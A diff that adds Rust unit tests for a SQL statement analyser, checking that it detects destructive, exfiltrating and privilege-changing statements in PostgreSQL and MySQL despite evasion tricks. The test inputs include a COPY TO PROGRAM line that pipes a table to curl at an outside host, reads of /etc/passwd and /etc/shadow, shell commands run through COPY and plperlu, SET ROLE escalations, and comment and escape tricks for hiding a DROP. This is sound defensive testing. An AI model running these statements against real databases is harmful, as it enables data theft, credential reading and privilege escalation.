@@ -1,0 +1,273 @@
+//! The SQL analyser's unit tests (both dialects, both PostgreSQL frontends).
+
+use super::*;
+
+fn pg(s: &str) -> Vec<Statement> {
+    analyze(s, Dialect::Postgres).expect("tokenizes")
+}
+
+#[test]
+fn kinds_and_relations() {
+    let s = pg("SELECT u.id FROM public.users u JOIN orders o ON o.uid = u.id WHERE pg_catalog.now() > o.t");
+    assert_eq!(
+        (s[0].kind, s[0].reads.clone()),
+        (Kind::Select, vec!["orders".to_string(), "public.users".to_string()])
+    );
+    assert_eq!(s[0].functions, ["pg_catalog.now"]);
+    let s = pg(
+        "insert into audit(id) select id from users; update accounts set balance = 0; delete from sessions where age > 3",
+    );
+    assert_eq!(
+        (s[0].kind, s[0].writes.clone(), s[0].reads.clone()),
+        (Kind::Insert, vec!["audit".to_string()], vec!["users".to_string()])
+    );
+    assert_eq!(
+        (s[1].kind, s[1].writes.clone(), s[1].has_where),
+        (Kind::Update, vec!["accounts".to_string()], false)
+    );
+    assert_eq!(
+        (s[2].kind, s[2].writes.clone(), s[2].has_where),
+        (Kind::Delete, vec!["sessions".to_string()], true)
+    );
+    assert_eq!(pg("select * from pg_shadow")[0].reads, ["pg_shadow"]);
+    assert_eq!(pg("TRUNCATE TABLE logs")[0].writes, ["logs"]);
+    assert_eq!(pg("drop table if exists \"Users\"")[0].writes, ["Users"]);
+    assert_eq!(pg("ALTER USER app WITH PASSWORD 'x'")[0].kind, Kind::Role);
+    assert_eq!(pg("grant all on x to y")[0].kind, Kind::Grant);
+    assert_eq!(pg("begin")[0].kind, Kind::Transaction);
+    assert_eq!(pg("SET search_path = x")[0].kind, Kind::Set);
+    assert!(!pg("vacuum full")[0].certain);
+}
+
+#[test]
+fn evasion_resistance() {
+    let s = pg("SeLeCt 1; /* a /* nested */ comment */ DrOp\n\tTABLE --x\n users");
+    assert_eq!(
+        (s.len(), s[1].kind, s[1].writes.clone()),
+        (2, Kind::Drop, vec!["users".to_string()])
+    );
+    let s = pg("select 'DROP TABLE users; --', $$ DELETE FROM x $$, E'\\' ; drop table y'");
+    assert_eq!(s.len(), 1, "text inside literals is data: {s:?}");
+    assert_eq!(s[0].kind, Kind::Select);
+    let s = pg("select * from \"pg_shadow\"");
+    assert_eq!(s[0].reads, ["pg_shadow"]);
+    assert!(analyze("select 'open", Dialect::Postgres).is_err());
+    assert!(analyze("select /* open", Dialect::Postgres).is_err());
+}
+
+#[test]
+fn copy_do_execute_and_ctes() {
+    let s = pg("COPY users TO PROGRAM 'curl -d @- http://x'");
+    assert_eq!(
+        (s[0].kind, s[0].copy_target.clone(), s[0].copy_from),
+        (
+            Kind::Copy,
+            Some(CopyTarget::Program("curl -d @- http://x".into())),
+            false
+        )
+    );
+    assert_eq!(s[0].reads, ["users"]);
+    let s = pg("copy t from '/etc/passwd'");
+    assert_eq!(
+        (s[0].copy_target.clone(), s[0].copy_from, s[0].writes.clone()),
+        (
+            Some(CopyTarget::File("/etc/passwd".into())),
+            true,
+            vec!["t".to_string()]
+        )
+    );
+    assert_eq!(pg("copy t to stdout")[0].copy_target, Some(CopyTarget::Client));
+    let s = pg("DO $body$ BEGIN DROP TABLE users; END $body$");
+    assert_eq!(s[0].kind, Kind::Do);
+    assert!(
+        s[0].nested
+            .iter()
+            .any(|n| n.kind == Kind::Drop && n.writes == ["users"]),
+        "{:?}",
+        s[0].nested
+    );
+    let s = pg("DO $$ BEGIN EXECUTE 'truncate audit'; END $$");
+    assert!(s[0].nested.iter().any(|n| n.kind == Kind::Truncate), "{s:?}");
+    assert!(!pg("EXECUTE stmt1")[0].certain);
+    let s = pg("DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$");
+    assert!(!s[0].certain, "{s:?}");
+    let s = pg("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
+    assert!(s[0].writable_cte);
+    assert_eq!(s[0].kind, Kind::Select);
+    let s = pg("EXPLAIN ANALYZE DELETE FROM users");
+    assert_eq!((s[0].kind, s[0].nested[0].kind), (Kind::Explain, Kind::Delete));
+}
+
+#[test]
+fn mysql_dialect() {
+    let s = analyze(
+        "select `password` from mysql.user # comment\n; /*!50000 DROP TABLE t */",
+        Dialect::MySql,
+    )
+    .expect("ok");
+    assert_eq!(s[0].reads, ["mysql.user"]);
+    assert_eq!((s[1].kind, s[1].writes.clone()), (Kind::Drop, vec!["t".to_string()]));
+    let s = analyze("select \"a;b\", 'it\\'s; drop table x'", Dialect::MySql).expect("ok");
+    assert_eq!(s.len(), 1);
+    let s = analyze("LOAD DATA INFILE '/etc/shadow' INTO TABLE t", Dialect::MySql).expect("ok");
+    assert_eq!(
+        (s[0].kind, s[0].copy_target.clone()),
+        (Kind::Copy, Some(CopyTarget::File("/etc/shadow".into())))
+    );
+}
+
+#[test]
+fn arbitrary_input_never_panics() {
+    let alphabet: &[&str] = &[
+        "select", "drop", "from", "$$", "$a$", "'", "\"", "`", "/*", "*/", "--", "\n", ";", "(", ")", "e'", "\\", "x",
+        " ", ".", "do", "execute", "copy", "with", "#", "/*!",
+    ];
+    let mut seed = 0x0123_4567_89AB_CDEFu64;
+    for _ in 0..20_000 {
+        let mut v = String::new();
+        for _ in 0..(seed % 16) {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            v.push_str(alphabet[(seed >> 33) as usize % alphabet.len()]);
+        }
+        seed = seed.wrapping_add(1);
+        let _ = analyze(&v, Dialect::Postgres);
+        let _ = analyze(&v, Dialect::MySql);
+    }
+}
+
+/// Every statement and nested statement, flattened.
+fn all(stmts: &[Statement]) -> Vec<&Statement> {
+    let mut out = Vec::new();
+    let mut stack: Vec<&Statement> = stmts.iter().collect();
+    while let Some(s) = stack.pop() {
+        out.push(s);
+        stack.extend(s.nested.iter());
+    }
+    out
+}
+
+fn pg_in(s: &str, lx: &Lexing) -> Vec<Statement> {
+    analyze_in(s, Dialect::Postgres, lx).expect("parses")
+}
+
+#[test]
+fn forms_the_token_scan_missed() {
+    let reads = |q: &str| all(&pg(q)).iter().flat_map(|s| s.reads.clone()).collect::<Vec<_>>();
+    let funcs = |q: &str| all(&pg(q)).iter().flat_map(|s| s.functions.clone()).collect::<Vec<_>>();
+    for q in [
+        "TABLE pg_authid",
+        "(TABLE pg_authid)",
+        "select 1 from users u, pg_authid a",
+        "select * from users, lateral (select * from pg_authid) x",
+        "select (select rolpassword from pg_catalog.pg_authid limit 1)",
+        "select * from U&\"pg_\\0061uthid\"",
+        "select * from \"pg_authid\"",
+        "select query_to_xml('select * from pg_authid', true, true, '')",
+        "select table_to_xml('pg_authid', true, true, '')",
+        "select table_to_xml('pg_authid'::regclass, true, true, '')",
+        "copy (select * from pg_authid) to stdout",
+        "with x as (select * from pg_authid) select * from x",
+    ] {
+        let r = reads(q);
+        assert!(r.iter().any(|n| n.ends_with("pg_authid")), "{q}: {r:?}");
+    }
+    for q in [
+        "select \"pg_read_file\"('/etc/passwd')",
+        "select pg_catalog.pg_read_file('/etc/passwd')",
+        "select \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
+        "select * from pg_read_file('/etc/passwd')",
+        "create operator <<>> (procedure = pg_read_file, leftarg = text)",
+        "create function f(text) returns text language internal as 'pg_read_file_v2'",
+        "create function f(text) returns text language c as '$libdir/x', 'pg_read_file_v2'",
+        "create function f() returns text language sql as $$ select pg_read_file('/etc/passwd') $$",
+        "create function f() returns text language sql begin atomic select pg_read_file('/etc/passwd'); end",
+        "create function f() returns void language plpgsql as $$ begin perform pg_read_file('/x'); end $$",
+        "do $$ begin execute 'select pg_read_file(''/etc/passwd'')'; end $$",
+        "do $$ begin execute E'select pg_read_file(\\'/etc/passwd\\')'; end $$",
+    ] {
+        let f = funcs(q);
+        assert!(f.iter().any(|n| n.contains("pg_read_file")), "{q}: {f:?}");
+    }
+    // A user-made operator is a function call this analysis cannot see.
+    assert!(!pg("select 'a' <<>> 'b'")[0].certain);
+    assert!(pg("select 1 + 2, 'a' || 'b', x ~~ 'y%' from t")[0].certain);
+    // Escapes are decoded before the EXECUTE string is analysed.
+    let s = pg("do $$ begin execute E'SELECT 1\\x3b DROP TABLE t'; end $$");
+    assert!(all(&s).iter().any(|n| n.kind == Kind::Drop), "{s:?}");
+    // A data-modifying CTE and a rule's actions are statements of their own.
+    let s = pg("with x as (delete from users returning *) select (select count(*) from x)");
+    assert!(all(&s).iter().any(|n| n.kind == Kind::Delete && !n.has_where), "{s:?}");
+    let s = pg("create rule r as on select to t do instead delete from users");
+    assert!(all(&s).iter().any(|n| n.kind == Kind::Delete), "{s:?}");
+    let s = pg("create trigger t before insert on x for each row execute function evil()");
+    assert!(s[0].functions.contains(&"evil".to_string()), "{s:?}");
+    // WHERE: only the statement's own, and only when it names a column.
+    for q in [
+        "delete from t where true",
+        "delete from t where 1 = 1",
+        "delete from t where exists (select 1 from u where u.id = 1)",
+        "update t set a = 1 where now() > '2000-01-01'",
+        "with x as (select 1 where true) delete from t",
+        "update t set a = (select 1 from u where u.id = 2)",
+    ] {
+        assert!(!pg(q)[0].has_where, "{q}");
+    }
+    assert!(pg("delete from t where id = 4")[0].has_where);
+    // Languages: C and internal are named; others are not read.
+    assert_eq!(
+        pg("create function f() returns int language c as 'x', 'y'")[0].languages,
+        ["c"]
+    );
+    assert!(!pg("create function f() returns int language plpython3u as 'import os'")[0].certain);
+    assert!(!pg("do language plperlu $$ system('id') $$")[0].certain);
+    // COPY target from the tree.
+    let s = pg("copy (select 1) to program 'id'");
+    assert_eq!(s[0].copy_target, Some(CopyTarget::Program("id".into())));
+}
+
+#[test]
+fn role_changes_in_every_spelling() {
+    for q in [
+        "SET ROLE postgres",
+        "SET LOCAL ROLE postgres",
+        "SET SESSION ROLE postgres",
+        "SET \"role\" = 'postgres'",
+        "SET role TO postgres",
+        "RESET ROLE",
+        "SET SESSION AUTHORIZATION postgres",
+        "select set_config('role', 'postgres', false)",
+        "select pg_catalog.set_config('ROLE', 'postgres', true)",
+        "create function f() returns int language sql set role = postgres as 'select 1'",
+    ] {
+        let s = pg(q);
+        assert!(all(&s).iter().any(|n| n.kind == Kind::Role), "{q}: {s:?}");
+    }
+    assert!(!pg("select set_config(current_user, 'x', false)")[0].certain);
+}
+
+#[test]
+fn lexing_follows_the_session() {
+    let off = Lexing {
+        standard_conforming_strings: false,
+        ..Lexing::default()
+    };
+    let q = "SELECT 'a\\' b '; DROP TABLE t; -- '";
+    // Standard strings: not valid SQL (the server would refuse it too).
+    assert!(analyze(q, Dialect::Postgres).is_err());
+    // Backslash escapes: a SELECT, then a DROP.
+    let s = pg_in(q, &off);
+    assert!(s.iter().any(|n| n.kind == Kind::Drop), "{s:?}");
+    // A statement after a change of lexing settings in the same string is not certain.
+    for q in [
+        "SET standard_conforming_strings = off; SELECT 1",
+        "select set_config('standard_conforming_strings', 'off', false); select 1",
+        "SET client_encoding = 'SJIS'; SELECT 1",
+        "SET NAMES 'GBK'; SELECT 1",
+        "RESET ALL; SELECT 1",
+    ] {
+        let s = pg(q);
+        assert!(s[0].certain && !s[1].certain, "{q}: {s:?}");
+    }
+}
